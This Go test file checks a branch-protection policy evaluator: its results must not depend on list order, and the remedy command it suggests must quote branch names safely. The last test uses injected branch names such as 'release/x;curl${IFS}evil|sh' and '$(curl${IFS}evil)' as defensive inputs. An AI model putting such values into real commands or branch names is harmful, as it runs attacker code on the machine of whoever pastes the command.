package policy

import (
	"bytes"
	"slices"
	"strings"
	"testing"
)

// The same settings have the same bytes, whatever order GitHub lists them in and whoever
// attested them; other settings have others.
func TestSettingsDoNotDependOnTheOrder(t *testing.T) {
	_, tree := base(t)
	p := factsOf(t, tree).Protection
	p.Bypass = append(p.Bypass, Bypass{RulesetID: 7, State: BypassThese, Actors: []BypassActor{{Type: "User", ID: 2}, {Type: "Team", ID: 1}}})
	want, err := p.Settings()
	if err != nil {
		t.Fatal(err)
	}
	q := p
	q.Rules.Items, q.Bypass, q.Why = slices.Clone(p.Rules.Items), slices.Clone(p.Bypass), "slow today"
	slices.Reverse(q.Rules.Items)
	slices.Reverse(q.Bypass)
	for i := range q.Rules.Items {
		q.Rules.Items[i].RequiredChecks = slices.Clone(q.Rules.Items[i].RequiredChecks)
		slices.Reverse(q.Rules.Items[i].RequiredChecks)
	}
	q.Bypass[0].Actors = slices.Clone(q.Bypass[0].Actors)
	slices.Reverse(q.Bypass[0].Actors)
	q.Bypass[1].Attested = &AttestedBypass{LeafIndex: 5}
	if got, err := q.Settings(); err != nil || !bytes.Equal(got, want) {
		t.Errorf("got %s, %v, want %s", got, err, want)
	}
	q.Rules.Items = q.Rules.Items[1:]
	if got, _ := q.Settings(); bytes.Equal(got, want) {
		t.Error("a rule less has the same bytes")
	}
}

// Whose word a decision rests on is told in the same order, however GitHub lists the rules.
func TestAttestedListsDoNotDependOnTheOrder(t *testing.T) {
	all := scenarios(t)
	i := slices.IndexFunc(all, func(s scenario) bool { return s.name == "attested-nobody" })
	s := all[i]
	f := clone(t, s.facts)
	second := f.Protection.Bypass[0]
	second.RulesetID = 7
	f.Protection.Bypass = append(f.Protection.Bypass, second)
	f.Protection.Rules.Items[0].RulesetID = 7
	want := encoded(t, Evaluate(s.policy, Builtin(), f))
	slices.Reverse(f.Protection.Rules.Items)
	slices.Reverse(f.Protection.Bypass)
	if got := encoded(t, Evaluate(s.policy, Builtin(), f)); !bytes.Equal(got, want) {
		t.Errorf("another order gives\n%s\nwant\n%s", got, want)
	}
	// The same guard from both: which is looked at first says nothing.
	more := f.Protection.Rules.Items
	for _, r := range f.Protection.Rules.Items {
		r.RulesetID = 38 - r.RulesetID
		more = append(more, r)
	}
	f.Protection.Rules.Items = more
	want = encoded(t, Evaluate(s.policy, Builtin(), f))
	slices.Reverse(f.Protection.Rules.Items)
	if got := encoded(t, Evaluate(s.policy, Builtin(), f)); !bytes.Equal(got, want) {
		t.Errorf("another order gives\n%s\nwant\n%s", got, want)
	}
	// And with lists that nobody could read.
	for i := range f.Protection.Bypass {
		f.Protection.Bypass[i].Attested = nil
	}
	want = encoded(t, Evaluate(s.policy, Builtin(), f))
	slices.Reverse(f.Protection.Rules.Items)
	if got := encoded(t, Evaluate(s.policy, Builtin(), f)); !bytes.Equal(got, want) {
		t.Errorf("another order of unreadable lists gives\n%s\nwant\n%s", got, want)
	}
}

// An owner pastes the command that is asked for, with their token at hand, and anybody with
// write access names branches: a name is one argument of the command and nothing else.
func TestTheCommandIsSafeToPaste(t *testing.T) {
	all := scenarios(t)
	i := slices.IndexFunc(all, func(s scenario) bool { return s.name == "bypass-unreadable-attested" })
	for branch, want := range map[string]string{
		"main":                        "--branch main`",
		"release/1.2_x-3":             "--branch release/1.2_x-3`",
		"release/$(curl${IFS}evil)":   "--branch 'release/$(curl${IFS}evil)'`",
		"release/x;curl${IFS}evil|sh": "--branch 'release/x;curl${IFS}evil|sh'`",
		"release/it's;id":             `--branch 'release/it'\''s;id'` + "`",
	} {
		f := clone(t, all[i].facts)
		f.Change.BaseRef, f.Change.GoverningRef, f.Protection.Ref = branch, branch, branch
		p := *all[i].policy
		p.Branches = []string{"main", "release/**"}
		p.enrolled = nil
		d := Evaluate(&p, Builtin(), f)
		k := slices.IndexFunc(d.Rules, func(r RuleResult) bool { return r.Rule == RuleBranchProtection })
		if k < 0 || !strings.Contains(d.Rules[k].Remedy, want) {
			t.Errorf("%s: got %+v, want a remedy of the branch's protection that holds %q", branch, d.Rules, want)
		}
	}
}
